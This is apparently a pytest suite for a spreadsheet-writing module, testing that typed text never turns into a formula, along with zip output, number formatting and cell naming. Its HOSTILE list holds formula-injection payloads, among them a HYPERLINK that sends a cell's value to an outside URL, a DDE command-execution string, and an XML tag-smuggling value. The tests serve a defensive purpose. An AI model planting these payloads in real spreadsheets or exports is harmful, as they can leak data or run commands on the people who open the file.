"""The spreadsheet file itself: read back by other programs, and nothing typed is a formula."""

import zipfile
from decimal import Decimal
from io import BytesIO
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from calculators._core import CURRENCIES, MoneyFormat
from calculators._core.workbook import Cell, Sheet, cell_name, literal, stored_zip, workbook
from tests.formats.spreadsheet import LIBREOFFICE, read, recalculated, worked_out

DOLLARS = MoneyFormat(CURRENCIES["USD"])
CENTS = MoneyFormat(CURRENCIES["USD"], 2)
HOSTILE = [
    '=HYPERLINK("https://example.org/?"&B2,"Pay")',
    "+1+1",
    "-2*3",
    "@SUM(B1:B9)",
    "\t=1+1",
    "=cmd|' /C calc'!A0",
    "</t></is></c><f>1+1</f>",
    "a & b < c > \"d\" 'e'",
    "\x00\x0b\ud800\ufffe",
    " spaces stay ",
]


def made(*rows: tuple[Cell | None, ...], money: MoneyFormat = DOLLARS) -> bytes:
    """Make a file with one sheet."""
    return workbook((Sheet(name="One", rows=rows, widths=(20, 10), head=1),), money, CENTS)


@given(files=st.dictionaries(st.text("abc/é.", min_size=1), st.binary(max_size=300), max_size=5))
def test_zip_is_read_by_the_library(files: dict[str, bytes]) -> None:
    """Every name and every byte, with sums that fit."""
    with zipfile.ZipFile(BytesIO(stored_zip(files))) as packed:
        assert packed.testzip() is None
        assert {name: packed.read(name) for name in packed.namelist()} == files


@pytest.mark.parametrize("words", HOSTILE)
def test_words_are_words_whatever_they_look_like(words: str) -> None:
    """An inline string is never worked out, and ends where it ends."""
    content = made((Cell(words), Cell(Decimal(7))))
    grid = read(content)["One"]
    assert grid.formulas == {}
    assert grid.values["B1"] == 7
    clean = "".join(it for it in words if it.isprintable() or it == "\t")
    assert grid.values["A1"] == clean.replace("\ufffe", "").replace("\ud800", "")


@pytest.mark.skipif(LIBREOFFICE is None, reason="LibreOffice is not on this machine")
def test_libreoffice_shows_the_words_and_works_out_the_formula(tmp_path: Path) -> None:
    """All of them in one file, above a sum that must come to 3."""
    typed = HOSTILE[:8]
    rows = [(Cell(words),) for words in typed]
    content = made(*rows, (Cell(Decimal(3), "1+2"),))
    found = recalculated({"words": content}, tmp_path)["words"]["One"]
    assert [row[0] for row in found] == [*typed, "3"]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (Decimal(120000), "120000"),
        (Decimal("1E+6"), "1000000"),
        (Decimal("0.0375"), "0.0375"),
        (Decimal(1) / 3, "0.33333333333333333"),
        (Decimal("-5.10"), "-5.1"),
        (12, "12"),
    ],
)
def test_numbers_are_written_in_full(value: Decimal | int, written: str) -> None:
    """Without an exponent, to 17 digits."""
    assert literal(value) == written


@pytest.mark.parametrize(
    ("row", "column", "name"), [(0, 0, "A1"), (4, 25, "Z5"), (9, 26, "AA10"), (0, 701, "ZZ1")]
)
def test_cells_have_the_names_that_people_know(row: int, column: int, name: str) -> None:
    """After Z comes AA."""
    assert cell_name(row, column) == name


@pytest.mark.parametrize(
    ("code", "places", "format_code"),
    [
        ("USD", 0, '"$"#,##0;-"$"#,##0'),
        ("EUR", 2, '"€"#,##0.00;-"€"#,##0.00'),
        ("CHF", 0, '"CHF\N{NO-BREAK SPACE}"#,##0;-"CHF\N{NO-BREAK SPACE}"#,##0'),
    ],
)
def test_amounts_are_shown_in_the_currency(code: str, places: int, format_code: str) -> None:
    """As the report writes them; the value itself is not rounded."""
    money = MoneyFormat(CURRENCIES[code], places)
    content = made((Cell(Decimal("1234.567")),), money=money)
    with zipfile.ZipFile(BytesIO(content)) as packed:
        styles = packed.read("xl/styles.xml").decode().replace("&quot;", '"')
    assert f'numFmtId="164" formatCode="{format_code}"' in styles
    assert read(content)["One"].values["A1"] == Decimal("1234.567")


def test_formula_is_kept_with_the_number_it_comes_to() -> None:
    """Programs that do not calculate, such as a preview, show that number."""
    book = read(made((Cell(Decimal(2)), Cell(Decimal(6), "A1*3", strong=True))))
    assert (book["One"].values["B1"], book["One"].formulas["B1"]) == (6, "A1*3")
    assert worked_out(book) == {("One", "B1"): 6}
